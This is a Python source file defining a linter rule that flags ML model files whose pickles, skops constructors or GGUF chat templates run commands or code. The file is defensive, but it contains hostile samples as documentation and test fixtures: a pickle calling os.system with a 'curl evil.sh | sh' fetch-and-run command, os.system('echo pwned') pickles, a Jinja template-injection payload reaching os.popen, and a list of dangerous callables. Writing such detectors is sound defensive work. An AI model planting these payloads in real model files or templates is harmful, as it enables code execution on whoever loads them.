from __future__ import annotations

from collections.abc import Iterator
from typing import TYPE_CHECKING

from modellint.analyzer.serialized.pickle_policy import Verdict, classify
from modellint.analyzer.serialized.pickles import GlobalRef
from modellint.findings import Finding, Severity
from modellint.rules._base import Invalid, SerializedFileRule, Valid, examples
from modellint.rules._examples import CLEAN, model_files
from modellint.rules._serialized_examples import (
    call_pickle,
    getattr_pickle,
    gguf_artifact_model,
    gguf_file,
    instance_pickle,
    pickled_model,
    skops_file,
)

if TYPE_CHECKING:
    from modellint.analyzer.serialized.facts import SerializedFacts

_CHATML = ("{% for message in messages %}{{'<|im_start|>' + message['role'] + '\\n' + message['content'] + "
           "'<|im_end|>\\n'}}{% endfor %}{% if add_generation_prompt %}{{ '<|im_start|>assistant\\n' }}{% endif %}")


class UnsafePickle(SerializedFileRule):
    """## What it does
    Classifies everything that loading the model's serialized files imports or calls (REDUCE,
    NEWOBJ, OBJ, INST, BUILD via `__setstate__`, skops constructors) and reports what runs
    commands, code, or touches files or the network: `os.system`, `subprocess.*`,
    `builtins.eval`/`exec`, `runpy`, `pickle.loads`, `pkgutil.resolve_name`,
    `importlib.import_module`, known gadgets in ML libraries (MLflow's project runner,
    `torch.load`, pandas readers, `from_pretrained`), dotted names that walk out of a module
    (`pathlib` + `os.system`), and protocol-0 names mapped from Python 2.

    `builtins.getattr` is judged by what it is called on: a pickled bound method (`obj.method`
    pickles as `getattr(obj, "method")`) of a class the pickle imports by name, with a literal,
    non-dunder attribute, is judged as the global `module.Class.method`. Any other `getattr`
    (on a module or a by-value object, a dunder such as `__globals__`, a computed name, or the
    function passed on to something else) is reported. `types.MethodType(function, obj)`, which
    cloudpickle writes for a bound method, calls nothing: binding a function the pickle imports
    by name or carries by value is not reported (the function is judged on its own); binding
    anything else (the result of a call, `getattr` itself) is. A nested deserializer whose argument
    is a literal of the file (`torch.storage._load_from_bytes(<bytes>)`, which torch writes for every
    tensor storage, or `pickle.loads(<bytes>)`) is judged by what that payload imports and calls, read
    as the loader would read it; one whose payload cannot be read that way is reported.

    A GGUF file's chat template (a Jinja program a runtime renders on each request) that accesses an
    attribute starting with `_` (`cycler.__init__.__globals__`, `self._TemplateReference__context`,
    `|attr('__class__')`) is reported too: rendered outside Jinja's sandbox it reaches `os`.

    A file that no flavor or artifact in MLmodel names (a `best-model.pkl` left beside the
    `model.pkl` the `sklearn` flavor loads) is reported as a warning that says so: MLflow never
    loads it, but anyone who opens it by hand runs what it calls. When the model runs code of its
    own that may open any file (a `PythonModel`, a custom `loader_module`, a code dir, by-value code
    in a file the flavor loads), every file counts as loaded.

    ## Why is this bad?
    Loading a pickle runs whatever callables it names, before the model is ever used. A denylist
    of "dangerous" names is structurally incomplete (every published scanner bypass found one
    more), so the standard library is judged by a reviewed allowlist: anything not on it is
    reported. Third-party classes from ML libraries are dependencies, not findings.

    ## Example
    ```text
    model.pkl: STACK_GLOBAL 'os' 'system'; REDUCE ('curl evil.sh | sh',)
    ```

    ## Fix
    Do not load the file. Rebuild the model from trusted code and data, or save it with a format
    that cannot run code (skops with reviewed trusted types, ONNX, safetensors).
    """

    code = "ML302"
    name = "unsafe-pickle"
    severity = Severity.ERROR
    fix_title = "Do not load this file; rebuild the model from trusted code and data"

    VALID = examples(lambda: (
        Valid(CLEAN),
        Valid(gguf_artifact_model(gguf_file({"tokenizer.chat_template": _CHATML})),
              note="a GGUF whose chat template reads only the messages"),
        Valid(model_files(**{"artifacts/state.pkl": instance_pickle("collections", "OrderedDict")})),
        Valid(model_files(**{"artifacts/scorer.pkl": getattr_pickle("sklearn.linear_model", "LogisticRegression",
                                                                    "predict_proba", instance=True)}),
              note="a bound method of a class the pickle imports by name"),
    ))
    INVALID = examples(lambda: (
        Invalid(pickled_model(call_pickle("os", "system", "echo pwned")), (("model.pkl", 1),)),
        Invalid(pickled_model(call_pickle("pathlib", "os.system", "echo pwned")),
                (("model.pkl", 1),), note="a dotted name walks from an allowed module to os"),
        Invalid(model_files(model__skops=skops_file(("sklearn.pipeline", "Pipeline"), ("builtins", "eval"))),
                (("model.skops", 1),)),
        Invalid(pickled_model(getattr_pickle("sklearn.linear_model", "LogisticRegression", "__init__",
                                             instance=False)),
                (("model.pkl", 1),), note="a dunder walk toward `__globals__` stays a call of `getattr`"),
        Invalid(gguf_artifact_model(gguf_file({"tokenizer.chat_template":
                                               "{{ cycler.__init__.__globals__.os.popen('id').read() }}"})),
                (("artifacts/model.gguf", 1),),
                note="a GGUF chat template walks from a Jinja global to `os` (CVE-2024-34359)"),
        Invalid(pickled_model(instance_pickle("sklearn.linear_model", "LogisticRegression"),
                              **{"best-model.pkl": call_pickle("os", "system", "echo pwned")}),
                (("best-model.pkl", 1),), severity=Severity.WARNING,
                note="a pickle beside the model that no flavor names: MLflow never loads it, but whoever does "
                     "runs it"),
    ))

    def check(self, model: SerializedFacts) -> Iterator[Finding]:
        for serialized in model.serialized_files:
            scan = serialized.scan
            reported: set[tuple[str, str]] = set()
            uses = [(site.callable, f"calls `{_display(site.callable)}` ({site.opcode} at byte {site.offset}")
                    for site in scan.calls]
            uses += [(ref, f"imports `{_display(ref)}` ({ref.opcode} at byte {ref.offset}") for ref in scan.globals]
            loaded = model.loaded_by_mlflow(serialized.relative)
            messages = []
            for ref, what in uses:
                key = (ref.module, ref.name)
                if key in reported or classify(ref.module, ref.name) is not Verdict.UNSAFE:
                    continue
                reported.add(key)
                messages.append(f"loading `{serialized.relative}` {what}{_member(ref)}), which can run commands or "
                                "code, or touch files or the network")
            messages += [f"`{serialized.relative}`: {hazard.what}" for hazard in scan.hazards]
            for message in messages:
                if loaded:
                    yield self.finding(serialized.path, message)
                else:  # a hostile file stays visible: whoever opens it by hand runs it
                    yield self.finding(
                        serialized.path,
                        f"{message}; MLflow does not load it (no flavor or artifact in MLmodel names it), but "
                        "anyone who loads it runs that code",
                        severity=Severity.WARNING,
                    )


def _display(ref: GlobalRef) -> str:
    return f"{ref.module}.{ref.name}"


def _member(ref: GlobalRef) -> str:
    return f" in `{ref.member}`" if ref.member else ""
